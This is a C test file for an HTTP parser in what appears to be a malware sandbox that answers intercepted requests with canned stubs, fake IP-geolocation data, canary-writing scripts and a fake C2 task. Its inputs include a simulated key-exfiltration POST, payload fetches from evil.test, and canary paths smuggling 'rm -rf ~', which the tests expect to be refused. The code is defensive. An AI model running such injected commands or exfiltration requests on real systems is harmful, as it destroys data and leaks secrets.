/* Table-driven tests for runner/httpreq.c: request lines, headers, bodies
 * (Content-Length and chunked), partial input, garbage, and the canned
 * response. */
#include "httpreq.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"

static bool slice_is(pt_http_slice s, const char *want) {
  if (want == NULL)
    return s.p == NULL;
  return s.p != NULL && s.len == strlen(want) && memcmp(s.p, want, s.len) == 0;
}

static const struct {
  const char *what, *in;
  pt_http_status want;
  const char *method, *target, *host, *ua, *ctype;
  const char *body; /* decoded body present; NULL = don't check */
  bool chunked;
  int nheaders;
} cases[] = {
    {"simple GET",
     "GET /x.sh HTTP/1.1\r\nHost: evil.test\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\n\r\n",
     PT_HTTP_COMPLETE, "GET", "/x.sh", "evil.test", "curl/8.0", NULL, "", false, 3},
    {"HTTP/1.0 bare LF",
     "GET / HTTP/1.0\nHost:   spaced.test  \n\n", PT_HTTP_COMPLETE, "GET", "/", "spaced.test",
     NULL, NULL, "", false, 1},
    {"POST with body",
     "POST /collect?a=1 HTTP/1.1\r\nHost: 192.0.2.1:8080\r\nContent-Type: application/json\r\n"
     "Content-Length: 13\r\n\r\n{\"k\":\"AKIA\"}\n",
     PT_HTTP_COMPLETE, "POST", "/collect?a=1", "192.0.2.1:8080", NULL, "application/json",
     "{\"k\":\"AKIA\"}\n", false, 3},
    {"POST body partial",
     "POST /u HTTP/1.1\r\nHost: h.test\r\nContent-Length: 100\r\n\r\nhalf", PT_HTTP_NEED_MORE,
     "POST", "/u", "h.test", NULL, NULL, "half", false, 2},
    {"POST extra bytes after body",
     "POST /u HTTP/1.1\r\nContent-Length: 2\r\n\r\nokGET / HTTP/1.1\r\n", PT_HTTP_COMPLETE, "POST",
     "/u", NULL, NULL, NULL, "ok", false, 1},
    {"chunked",
     "POST /c HTTP/1.1\r\nHost: c.test\r\nTransfer-Encoding: chunked\r\n\r\n"
     "5\r\nhello\r\n7;ext=1\r\n, world\r\n0\r\nX-Trailer: 1\r\n\r\n",
     PT_HTTP_COMPLETE, "POST", "/c", "c.test", NULL, NULL, "hello, world", true, 2},
    {"chunked beats content-length",
     "POST /c HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: gzip, Chunked\r\n\r\n"
     "3\r\nabc\r\n0\r\n\r\n",
     PT_HTTP_COMPLETE, "POST", "/c", NULL, NULL, NULL, "abc", true, 2},
    {"chunked partial",
     "POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nA\r\n0123", PT_HTTP_NEED_MORE, "POST",
     "/c", NULL, NULL, NULL, "0123", true, 1},
    {"chunked bad size", "POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc",
     PT_HTTP_COMPLETE, "POST", "/c", NULL, NULL, NULL, "", true, 1},
    {"partial request line", "GET /pa", PT_HTTP_NEED_MORE, "GET", NULL, NULL, NULL, NULL, NULL,
     false, 0},
    {"partial method", "PO", PT_HTTP_NEED_MORE, NULL, NULL, NULL, NULL, NULL, NULL, false, 0},
    {"partial headers", "GET / HTTP/1.1\r\nHost: p.test\r\nUser-Ag", PT_HTTP_NEED_MORE, "GET", "/",
     "p.test", NULL, NULL, NULL, false, 1},
    {"proxy absolute form", "GET http://a.test/b.py HTTP/1.1\r\n\r\n", PT_HTTP_COMPLETE, "GET",
     "http://a.test/b.py", NULL, NULL, NULL, "", false, 0},
    {"CONNECT", "CONNECT pypi.test:443 HTTP/1.1\r\nHost: pypi.test:443\r\n\r\n", PT_HTTP_COMPLETE,
     "CONNECT", "pypi.test:443", "pypi.test:443", NULL, NULL, "", false, 1},
    {"malformed header skipped", "GET / HTTP/1.1\r\nno colon here\r\n folded\r\nA: b\r\n\r\n",
     PT_HTTP_COMPLETE, "GET", "/", NULL, NULL, NULL, "", false, 1},
    {"TLS", "\x16\x03\x01\x02\x00\x01", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL, NULL, NULL, false,
     0},
    {"SSH banner", "SSH-2.0-OpenSSH_9.0\r\n", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL, NULL, NULL,
     false, 0},
    {"HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL,
     NULL, NULL, false, 0},
    {"leading space", " GET / HTTP/1.1\r\n", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL, NULL, NULL,
     false, 0},
    {"method too long", "AAAAAAAAAAAAAAAAAAAAAAAA / HTTP/1.1\r\n", PT_HTTP_NOT_HTTP, NULL, NULL,
     NULL, NULL, NULL, NULL, false, 0},
    {"two spaces", "GET  / HTTP/1.1\r\n", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL, NULL, NULL,
     false, 0},
    {"bad version", "GET / HTTP/1.x\r\n", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL, NULL, NULL,
     false, 0},
    {"CR without LF", "GET / HTTP/1.1\rX", PT_HTTP_NOT_HTTP, NULL, NULL, NULL, NULL, NULL, NULL,
     false, 0},
};

static void test_table(void) {
  for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
    const char *in = cases[i].in;
    size_t len = strlen(in);
    pt_http_req r;
    pt_http_status st = pt_http_parse(in, len, &r);
    CHECK(st == cases[i].want, "%s: got %s", cases[i].what, pt_http_status_str(st));
    if (st == PT_HTTP_NOT_HTTP)
      continue;
    if (cases[i].method)
      CHECK(slice_is(r.method, cases[i].method), "%s: method", cases[i].what);
    if (cases[i].target)
      CHECK(slice_is(r.target, cases[i].target), "%s: target %.*s", cases[i].what,
            (int)r.target.len, r.target.p);
    if (!r.headers_complete && cases[i].body == NULL && cases[i].host == NULL)
      continue;
    CHECK(slice_is(r.host, cases[i].host), "%s: host", cases[i].what);
    CHECK(slice_is(r.user_agent, cases[i].ua), "%s: ua", cases[i].what);
    CHECK(slice_is(r.content_type, cases[i].ctype), "%s: ctype", cases[i].what);
    CHECK(r.nheaders == (size_t)cases[i].nheaders, "%s: nheaders %zu", cases[i].what, r.nheaders);
    CHECK(r.chunked == cases[i].chunked, "%s: chunked", cases[i].what);
    if (cases[i].body) {
      char body[256];
      bool done;
      size_t n = pt_http_body(&r, in, len, body, sizeof(body), &done);
      CHECK(n == strlen(cases[i].body) && memcmp(body, cases[i].body, n) == 0, "%s: body %.*s",
            cases[i].what, (int)n, body);
    }
  }
}

/* Every prefix of a complete request is NEED_MORE, never NOT_HTTP. */
static void test_prefixes(void) {
  const char *in = cases[5].in; /* chunked */
  size_t len = strlen(in);
  for (size_t k = 0; k < len; k++) {
    pt_http_req r;
    pt_http_status st = pt_http_parse(in, k, &r);
    CHECK(st == PT_HTTP_NEED_MORE, "prefix %zu: %s", k, pt_http_status_str(st));
  }
}

static void test_limits(void) {
  /* 150 headers: 100 kept, 50 counted; a Content-Length hidden at the end
   * still frames the body. */
  static char big[16384];
  size_t o = (size_t)snprintf(big, sizeof(big), "POST / HTTP/1.1\r\n");
  for (int i = 0; i < 150; i++)
    o += (size_t)snprintf(big + o, sizeof(big) - o, "X-%d: v\r\n", i);
  o += (size_t)snprintf(big + o, sizeof(big) - o, "Content-Length: 3\r\n\r\nabc");
  pt_http_req r;
  CHECK(pt_http_parse(big, o, &r) == PT_HTTP_COMPLETE, "many headers");
  CHECK(r.nheaders == PT_HTTP_MAX_HEADERS && r.headers_dropped == 51, "kept %zu dropped %zu",
        r.nheaders, r.headers_dropped);
  CHECK(r.content_length == 3 && r.body_present == 3, "cl");
  CHECK(pt_http_find(&r, "x-7") != NULL && pt_http_find(&r, "x-140") == NULL, "find");

  /* Conflicting / junk Content-Length. */
  const char *cl2 = "POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab";
  CHECK(pt_http_parse(cl2, strlen(cl2), &r) == PT_HTTP_COMPLETE && r.content_length_conflict &&
            r.content_length == 1,
        "cl conflict");
  const char *cljunk = "POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n";
  CHECK(pt_http_parse(cljunk, strlen(cljunk), &r) == PT_HTTP_COMPLETE &&
            r.content_length_conflict && !r.has_content_length,
        "cl junk");
  const char *clhuge = "POST / HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\n";
  CHECK(pt_http_parse(clhuge, strlen(clhuge), &r) == PT_HTTP_COMPLETE &&
            r.content_length_conflict,
        "cl huge");
  /* Long value: cut at PT_HTTP_VALUE_MAX. */
  static char lv[PT_HTTP_VALUE_MAX + 100];
  o = (size_t)snprintf(lv, sizeof(lv), "GET / HTTP/1.1\r\nCookie: ");
  memset(lv + o, 'c', PT_HTTP_VALUE_MAX + 10);
  o += PT_HTTP_VALUE_MAX + 10;
  memcpy(lv + o, "\r\n\r\n", 4);
  o += 4;
  CHECK(pt_http_parse(lv, o, &r) == PT_HTTP_COMPLETE && r.headers[0].value_truncated &&
            r.headers[0].value.len == PT_HTTP_VALUE_MAX,
        "long value");
  /* Body copy respects cap. */
  const char *post = "POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\n0123456789";
  pt_http_parse(post, strlen(post), &r);
  char four[4];
  bool done;
  CHECK(pt_http_body(&r, post, strlen(post), four, 4, &done) == 4 && memcmp(four, "0123", 4) == 0 &&
            done,
        "body cap");
}

static void test_response(void) {
  /* The object every JSON answer carries (httpreq.c's GEO_JSON). */
#define GEO \
  "\"ip\": \"203.0.113.54\", \"query\": \"203.0.113.54\", \"status\": \"success\", "\
  "\"success\": true, \"country\": \"US\", \"countryCode\": \"US\", \"country_code\": \"US\", "\
  "\"country_name\": \"United States\", \"region\": \"California\", \"regionName\": \"California\", "\
  "\"city\": \"San Jose\", \"loc\": \"37.3394,-121.8950\", \"lat\": 37.3394, \"lon\": -121.895, "\
  "\"timezone\": \"America/Los_Angeles\", \"isp\": \"Comcast Cable\", "\
  "\"org\": \"AS7922 Comcast Cable Communications, LLC\", "\
  "\"as\": \"AS7922 Comcast Cable Communications, LLC\""

static const struct {
    const char *method, *target, *ctype, *body;
  } rc[] = {
      {"GET", "/install.sh", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/stage2", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/p/x.PY?v=1", "text/x-python", "pass\n#"},
      {"GET", "/a.js#frag", "application/javascript", "\n//"},
      {"POST", "/api/v1.json", "application/json", "{" GEO "}\n "},
      /* JSON asked for by the URL: what an IP lookup answers. */
      {"GET", "/json", "application/json", "{" GEO "}\n "},
      {"GET", "http://h.test/v2/JSON/?lang=en", "application/json", "{" GEO "}\n "},
      {"GET", "/?format=json", "application/json", "{" GEO "}\n "},
      {"GET", "/ip?x=1&format=JSON#f", "application/json", "{" GEO "}\n "},
      {"GET", "/?format=jsonp", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/?xformat=json", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/jsonx", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/json/install", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "http://h.test/get.py", "text/x-python", "pass\n#"},
      {"GET", "http://h.test", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/payload.exe", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"GET", "/dir.d/.bashrc", "text/plain", "#!/bin/sh\nexit 0\n#"},
      {"HEAD", "/x.py", "text/x-python", ""},
      {NULL, NULL, "text/plain", "#!/bin/sh\nexit 0\n#"},
  };
  for (size_t i = 0; i < sizeof(rc) / sizeof(rc[0]); i++) {
    char out[PT_HTTP_STUB_BODY + 512], want[2048];
    int n = pt_http_write_response(rc[i].method, rc[i].method ? strlen(rc[i].method) : 0,
                                   rc[i].target, rc[i].target ? strlen(rc[i].target) : 0, NULL,
                                   out, sizeof(out));
    bool head = rc[i].method && strcmp(rc[i].method, "HEAD") == 0;
    int hl = snprintf(want, sizeof(want),
                      "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: %s\r\n"
                      "Content-Length: %u\r\nConnection: close\r\n\r\n%s",
                      rc[i].ctype, PT_HTTP_STUB_BODY, rc[i].body);
    /* The stub, then its padding: one comment line (JSON: white space) to
     * PT_HTTP_STUB_BODY bytes, ending the body with its only newline. */
    size_t body_at = (size_t)hl - strlen(rc[i].body);
    bool ok = n == (int)(head ? (size_t)hl : body_at + PT_HTTP_STUB_BODY) &&
              memcmp(out, want, (size_t)hl) == 0;
    if (ok && !head) {
      const char *pad = out + hl, *end = out + body_at + PT_HTTP_STUB_BODY;
      char fill = rc[i].body[strlen(rc[i].body) - 1] == ' ' ? ' ' : '.';
      while (pad < end - 1 && *pad == fill)
        pad++;
      ok = pad == end - 1 && *pad == '\n' && *end == '\0';
    }
    CHECK(ok, "response %zu: %.200s", i, out);
  }
  char small[PT_HTTP_STUB_BODY];
  CHECK(pt_http_write_response("GET", 3, "/", 1, NULL, small, sizeof(small)) == -1,
        "a buffer the padded body does not fit");
  /* With a canary, each kind's code creates it first, still padded. */
  static const struct {
    const char *target, *code;
  } cc[] = {
      /* A shell script that is also Python: sh runs `true` and exits. */
      {"/stage2", "#!/bin/sh\n\"true\" '''\\'\n: > /tmp/.X1f-lock 2>/dev/null\nexit 0\n'''\n"
                  "try:\n    open('/tmp/.X1f-lock', 'a').close()\nexcept Exception:\n    pass\n#"},
      {"/a.exe", "#!/bin/sh\n\"true\" '''\\'\n: > /tmp/.X1f-lock 2>/dev/null\nexit 0\n'''\n"
                 "try:\n    open('/tmp/.X1f-lock', 'a').close()\nexcept Exception:\n    pass\n#"},
      {"/s.py", "try:\n    open('/tmp/.X1f-lock', 'a').close()\nexcept Exception:\n    pass\n#"},
      {"/s.js", "try { (typeof require === 'function' ? require : process.getBuiltinModule)"
                "('fs').appendFileSync('/tmp/.X1f-lock', ''); } catch (e) {}\n//"},
      /* A C2 task, under the names servers give the command. */
      {"/c.json", "{\"id\": \"1\", \"type\": \"task\", \"cmd\": \"echo ok > /tmp/.X1f-lock\", "
                  "\"command\": \"echo ok > /tmp/.X1f-lock\", \"exec\": \"echo ok > /tmp/.X1f-lock\", "
                  "\"shell\": \"echo ok > /tmp/.X1f-lock\", \"task\": \"echo ok > /tmp/.X1f-lock\", "
                  GEO "}\n "},
  };
  for (size_t i = 0; i < sizeof(cc) / sizeof(cc[0]); i++) {
    char out[PT_HTTP_STUB_BODY + 512];
    int n = pt_http_write_response("GET", 3, cc[i].target, strlen(cc[i].target), "/tmp/.X1f-lock",
                                   out, sizeof(out));
    const char *body = n > 0 ? strstr(out, "\r\n\r\n") : NULL;
    CHECK(body && strncmp(body + 4, cc[i].code, strlen(cc[i].code)) == 0 &&
              strlen(body + 4) == PT_HTTP_STUB_BODY,
          "canary body %zu: %.300s", i, body ? body + 4 : "(none)");
  }
  char out[PT_HTTP_STUB_BODY + 512];
  CHECK(pt_http_write_response("GET", 3, "/", 1, "/tmp/x'; rm -rf ~", out, sizeof(out)) == -1,
        "a canary that is no plain path is refused");
  char tiny[10];
  CHECK(pt_http_write_response("GET", 3, "/", 1, NULL, tiny, sizeof(tiny)) == -1, "tiny");
}

/* Server-Sent Events: asked for by Accept, answered with a task. */
static void test_event_stream(void) {
  static const struct {
    const char *req;
    bool wants;
  } ac[] = {
      {"GET /t/sse HTTP/1.1\r\nHost: p.test\r\nAccept: text/event-stream\r\n\r\n", true},
      {"GET /t HTTP/1.1\r\naccept: application/json, TEXT/Event-Stream;q=0.9\r\n\r\n", true},
      {"GET /t HTTP/1.1\r\nAccept: text/event\r\n\r\n", false},
      {"GET /t HTTP/1.1\r\nX-Accept: text/event-stream\r\n\r\n", false},
      {"GET /t HTTP/1.1\r\nHost: p.test\r\n\r\n", false},
  };
  for (size_t i = 0; i < sizeof(ac) / sizeof(ac[0]); i++) {
    pt_http_req r;
    pt_http_parse(ac[i].req, strlen(ac[i].req), &r);
    CHECK(pt_http_wants_event_stream(&r) == ac[i].wants, "accept %zu", i);
  }
  char out[2048];
  int n = pt_http_write_event_stream("/tmp/.X1f-lock", out, sizeof(out));
  const char *body = n > 0 ? strstr(out, "\r\n\r\n") : NULL;
  CHECK(n > 0 && strncmp(out, "HTTP/1.1 200 OK\r\n", 17) == 0 &&
            strstr(out, "\r\nContent-Type: text/event-stream\r\n") != NULL,
        "event stream head: %.200s", out);
  const char *want =
      "retry: 30000\n\nid: 1\nevent: message\ndata: {\"id\": \"1\", \"type\": \"task\", "
      "\"cmd\": \"echo ok > /tmp/.X1f-lock\", \"command\": \"echo ok > /tmp/.X1f-lock\", "
      "\"exec\": \"echo ok > /tmp/.X1f-lock\", \"shell\": \"echo ok > /tmp/.X1f-lock\", "
      "\"task\": \"echo ok > /tmp/.X1f-lock\", " GEO "}\n\nid: 2\nevent: message\n"
      "data: echo ok > /tmp/.X1f-lock\n\n";
  char cl[64];
  snprintf(cl, sizeof(cl), "\r\nContent-Length: %zu\r\n", strlen(want));
  CHECK(body && strcmp(body + 4, want) == 0 && strstr(out, cl) != NULL,
        "event stream body: %.600s", body ? body + 4 : "(none)");
  n = pt_http_write_event_stream(NULL, out, sizeof(out));
  body = n > 0 ? strstr(out, "\r\n\r\n") : NULL;
  CHECK(body && strcmp(body + 4, "retry: 30000\n\n: ok\n\n") == 0,
        "event stream without a canary: a comment only");
  CHECK(pt_http_write_event_stream("/tmp/x; rm -rf ~", out, sizeof(out)) == -1,
        "a canary that is no plain path is refused");
  CHECK(pt_http_write_event_stream("/tmp/.X1f-lock", out, 64) == -1, "small");
}

/* "What is my address" lookups in plain text, told by their form. */
static void test_own_ip(void) {
  static const struct {
    const char *req;
    bool asks;
  } c[] = {
      {"GET / HTTP/1.1\r\nHost: api.ipify.org\r\n\r\n", true},
      {"GET / HTTP/1.1\r\nhost: ICANHAZIP.COM\r\n\r\n", true},
      {"GET / HTTP/1.1\r\nHost: checkip.amazonaws.com\r\n\r\n", true},
      {"GET /ip HTTP/1.1\r\nHost: ifconfig.me\r\n\r\n", true},
      {"GET /ip HTTP/1.1\r\nHost: ipinfo.io:443\r\n\r\n", true},
      {"GET /plain HTTP/1.1\r\nHost: ipecho.net\r\n\r\n", true},
      {"GET /raw HTTP/1.1\r\nHost: myexternalip.com\r\n\r\n", true},
      {"GET http://api64.ipify.org/ HTTP/1.1\r\nHost: api64.ipify.org\r\n\r\n", true},
      {"GET / HTTP/1.1\r\nHost: ident.me\r\n\r\n", true},
      /* not: a payload on an IPFS gateway, a file, another host, the
       * TLD alone, no Host, an address literal */
      {"GET /ipfs/QmYwAPJzv5CZsnA HTTP/1.1\r\nHost: ipfs.io\r\n\r\n", false},
      {"GET /install.sh HTTP/1.1\r\nHost: api.ipify.org\r\n\r\n", false},
      {"GET / HTTP/1.1\r\nHost: cdn.payload-host.test\r\n\r\n", false},
      {"GET / HTTP/1.1\r\nHost: example.vip\r\n\r\n", false},
      {"GET / HTTP/1.1\r\n\r\n", false},
      {"GET / HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n", false},
      {"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", false},
  };
  for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
    pt_http_req r;
    pt_http_parse(c[i].req, strlen(c[i].req), &r);
    CHECK(pt_http_asks_own_ip(&r) == c[i].asks, "own ip %zu: %s", i,
          c[i].req);
  }
  char out[512];
  int n = pt_http_write_own_ip("GET", 3, out, sizeof(out));
  const char *body = n > 0 ? strstr(out, "\r\n\r\n") : NULL;
  CHECK(body && strcmp(body + 4, "203.0.113.54\n") == 0 &&
            strstr(out, "\r\nContent-Length: 13\r\n") &&
            strstr(out, "\r\nContent-Type: text/plain"),
        "own ip answer: %s", out);
  n = pt_http_write_own_ip("HEAD", 4, out, sizeof(out));
  CHECK(n > 0 && strcmp(out + n - 4, "\r\n\r\n") == 0, "HEAD: no body");
  CHECK(pt_http_write_own_ip("GET", 3, out, 40) == -1, "small");
}

int main(void) {
  test_own_ip();
  test_table();
  test_prefixes();
  test_limits();
  test_response();
  test_event_stream();
  if (failures) {
    fprintf(stderr, "%d failures\n", failures);
    return 1;
  }
  printf("httpreq: ok\n");
  return 0;
}
